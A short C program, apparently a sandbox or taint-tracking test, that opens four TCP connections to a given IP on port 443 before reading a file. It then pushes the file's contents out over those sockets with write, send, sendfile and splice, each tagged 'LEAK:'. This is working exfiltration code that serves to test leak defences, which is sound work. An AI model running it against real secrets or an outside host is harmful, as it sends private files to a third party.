// preconn IP PATH : connects (and sends PRE) before reading PATH, then writes the
// secret on the socket it already holds (write, send, sendfile, splice).
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <sys/sendfile.h>
#include "send.c"
static int conn(const char*ip){int s=socket(AF_INET,SOCK_STREAM,0);struct sockaddr_in a={.sin_family=AF_INET,.sin_port=htons(443)};inet_pton(AF_INET,ip,&a.sin_addr);if(connect(s,(void*)&a,sizeof a)<0){perror("connect");return -1;}return s;}
int main(int argc,char**argv){
  setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1],*path=argv[2];
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int s1=conn(ip),s2=conn(ip),s3=conn(ip),s4=conn(ip);
  printf("connected %d %d %d %d\n",s1,s2,s3,s4);
  int fd=open(path,O_RDONLY); printf("open(%s)=%d %s\n",path,fd,fd<0?strerror(errno):"-"); if(fd<0)return 1;
  char buf[256]; ssize_t n=read(fd,buf,sizeof buf-1); buf[n>0?n:0]=0; printf("READ %zd\n",n);
  char m[300]; int k=snprintf(m,sizeof m,"LEAK:write:%s",buf);
  printf("write: %zd %s\n",write(s1,m,k),strerror(errno));
  k=snprintf(m,sizeof m,"LEAK:send:%s",buf); printf("send: %zd %s\n",send(s2,m,k,0),strerror(errno));
  off_t o=0; write(s3,"LEAK:sendfile:",14); printf("sendfile: %zd %s\n",sendfile(s3,fd,&o,n),strerror(errno));
  int p[2]; pipe(p); write(p[1],"LEAK:splice:",12); write(p[1],buf,n); printf("splice: %zd %s\n",splice(p[0],0,s4,0,12+n,0),strerror(errno));
  close(s1);close(s2);close(s3);close(s4); return 0;
}
